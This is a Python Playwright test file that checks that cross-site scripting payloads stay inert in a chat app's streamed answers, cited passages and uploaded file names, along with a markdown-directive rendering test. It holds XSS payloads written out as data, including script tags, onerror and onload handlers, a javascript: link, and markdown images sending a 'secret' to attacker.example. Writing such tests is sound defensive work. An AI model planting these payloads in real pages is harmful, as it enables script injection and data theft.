"""Script and image payloads stay inert in the live view, in a real Chromium: a streamed model
answer, a cited document's passage opened in the side panel, and a file name.

The server's model is a scripted fake of OpenAI, so the answer is exactly the payloads,
streamed in pieces that split them (as tokens would). A file whose name and text carry the
payloads is attached with the paperclip and cited; its citation is opened. Throughout, no
script may run (`window.__xss` stays unset, no dialog opens), no `javascript:` link or
foreign image may be in what Cadre wrote, the page may not reach any host but the server
(`browser_page` fails the test if it tries), and the payloads show as the text they are.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.models.openai_server import FakeOpenAI, fake_openai, text, tool_call
from tests.support.browser import HAS_CHROMIUM, NO_CHROMIUM, ask, browser_page, log_in
from tests.support.server import RunningServer, cadre_server

if HAS_CHROMIUM:
    from playwright.sync_api import Dialog, Page, expect

pytestmark = [
    pytest.mark.slow,
    pytest.mark.browser,
    pytest.mark.skipif(not HAS_CHROMIUM, reason=NO_CHROMIUM),
]

PAYLOADS = (
    '<script>window.__xss=1</script> <img src=x onerror="window.__xss=1"> '
    '<svg onload="window.__xss=1;alert(1)"></svg> [click](javascript:window.__xss=1) '
    "![x](http://attacker.example/leak?d=secret)"
)
# A file name cannot hold "/": `https:attacker.example` is absolute to a browser on http://.
FILE_NAME = 'plan ![x](https:attacker.example?d=name) <img src=x onerror="window.__xss=1">.txt'
FACT = "The Zephyr prototype is due on 14 March 2027."

PAGE_CHECK = """() => {
  const own = (src) => src.startsWith(location.origin) || /^(data|blob):/.test(src);
  return {
    handlers: document.querySelectorAll('[onerror],[onload],[onclick],[onmouseover]').length,
    scripts: [...document.querySelectorAll('script')].filter(s => !own(s.src || location.origin)
      || s.textContent.includes('__xss')).length,
    // A person's own message is theirs to write (the page's policy keeps its images from
    // loading, and browser_page sees no request leave); everything else is Cadre's.
    foreignImages: [...document.images]
      .filter(i => !i.closest('[data-step-type="user_message"]'))
      .map(i => i.src).filter(src => src && !own(src)),
    jsLinks: [...document.querySelectorAll('a[href]')]
      .filter(a => a.href.trim().toLowerCase().startsWith('javascript:')).length,
    flag: window.__xss === undefined ? null : String(window.__xss),
  };
}"""


@pytest.fixture(scope="module")
def remote() -> Iterator[FakeOpenAI]:
    with fake_openai() as running:
        yield running


@pytest.fixture(scope="module")
def server(remote: FakeOpenAI, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    with cadre_server(
        tmp_path_factory.mktemp("data"),
        CADRE_OPENAI_BASE_URL=remote.url,
        CADRE_CHAT_MODEL="openai:test-model",
    ) as running:
        yield running


def _assert_inert(page: Page, dialogs: list[str]) -> dict[str, Any]:
    page.wait_for_timeout(500)  # let any late load or handler fire before judging
    found: dict[str, Any] = page.evaluate(PAGE_CHECK)
    assert found["flag"] is None, found
    assert found["handlers"] == 0, found
    assert found["scripts"] == 0, found
    assert found["foreignImages"] == [], found
    assert found["jsLinks"] == 0, found
    assert dialogs == []
    return found


def _pieces(answer: str, size: int = 7) -> list[str]:
    """`answer` in pieces of `size` characters: every tag and link is split across tokens."""
    return [answer[i : i + size] for i in range(0, len(answer), size)]


def test_payloads_in_a_streamed_answer_a_cited_passage_and_a_file_name_stay_inert(
    server: RunningServer, remote: FakeOpenAI, tmp_path: Path
) -> None:
    with browser_page(server) as page:  # fails the test if the page reaches another host
        dialogs: list[str] = []

        def dismiss(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", dismiss)
        log_in(page, server)
        expect(page.get_by_text("Plan my week")).to_be_visible(timeout=30_000)

        # 1. A streamed answer that is nothing but payloads (spares: a turn may ask twice).
        answer = f"Streamed-4471 {PAYLOADS} end-4471"
        remote.replies += [text(*_pieces(answer)) for _ in range(4)]
        ask(page, f"Question-4471 {PAYLOADS}")
        reply = page.locator("[data-step-type='assistant_message']").filter(
            has_text="Streamed-4471"
        )
        expect(reply.last).to_contain_text("end-4471", timeout=60_000)
        shown = reply.last.inner_text()
        assert "<script>window.__xss=1</script>" in shown, shown  # the payload, as text
        assert "onerror=" in shown, shown
        assert "attacker.example" not in shown or "[image" in shown, shown
        _assert_inert(page, dialogs)
        remote.replies.clear()

        # 2. A file whose name and text carry the payloads, attached, cited, and opened.
        upload = tmp_path / FILE_NAME
        upload.write_text(f"Zephyr plan.\n\n{FACT} {PAYLOADS}\n")
        remote.replies += [
            tool_call("delegate_to_researcher", '{"instructions": "Zephyr due date"}', "d1"),
            tool_call("search_documents", '{"query": "Zephyr prototype due"}', "s1"),
            text(f"Cited-4471 {FACT} [1]"),
            text(f"Cited-4471 {FACT} [1]"),
        ]
        page.locator("#chat-input").fill("When is the Zephyr prototype due?")
        submit = page.locator("#chat-submit")
        expect(submit).to_be_enabled(timeout=30_000)
        page.locator("input[type=file]").first.set_input_files(str(upload))
        expect(page.get_by_text("onerror").first).to_be_visible(timeout=30_000)
        expect(submit).to_be_enabled(timeout=30_000)
        submit.click()
        expect(page.get_by_text("Cited-4471").first).to_be_visible(timeout=120_000)
        _assert_inert(page, dialogs)
        cited = page.locator("[data-step-type='assistant_message']").filter(has_text="Cited-4471")
        expect(cited.last).to_contain_text("Sources:", timeout=30_000)
        # 3. The file name, in the Sources line: the text it is, not a link or an image
        # (Chromium sends its quotes as %22 in the upload).
        expect(cited.last).to_contain_text("plan ![x](")
        expect(cited.last).to_contain_text("<img src=x onerror=")
        page.locator("a.element-link", has_text="[1]").last.click()
        side = page.locator("#side-view-content")
        expect(side).to_contain_text("14 March 2027", timeout=30_000)
        expect(side).to_contain_text("[1] plan")  # the passage says which number it is
        expect(side).to_contain_text("onerror=")
        expect(side).to_contain_text("<script>window.__xss=1</script>")
        _assert_inert(page, dialogs)


def test_text_that_reads_as_a_directive_is_shown_whole_live_and_after_a_reload(
    server: RunningServer, remote: FakeOpenAI
) -> None:
    # Chainlit's markdown reads `:name` as a directive and drops it: a quoted line of the
    # shared-mime-info spec showed as "55/x-diff".
    answer = "Directive-5102 55:text/x-diff, ratio 3:four, a::b and `k:v` end-5102"
    with browser_page(server) as page:
        log_in(page, server)
        expect(page.get_by_text("Plan my week")).to_be_visible(timeout=30_000)
        remote.replies += [text(*_pieces(answer)) for _ in range(4)]
        ask(page, "Which glob line is first? (directive-5102)")
        reply = page.locator("[data-step-type='assistant_message']").filter(
            has_text="Directive-5102"
        )
        expect(reply.last).to_contain_text("end-5102", timeout=60_000)
        for part in ("55:text/x-diff", "ratio 3:four", "a::b", "k:v"):
            expect(reply.last).to_contain_text(part)
        remote.replies.clear()

        page.reload()  # the thread again, from what was stored
        stored = page.locator("[data-step-type='assistant_message']").filter(
            has_text="Directive-5102"
        )
        expect(stored.last).to_contain_text("end-5102", timeout=30_000)
        for part in ("55:text/x-diff", "ratio 3:four", "a::b", "k:v"):
            expect(stored.last).to_contain_text(part)
        assert "\\:" not in stored.last.inner_text()
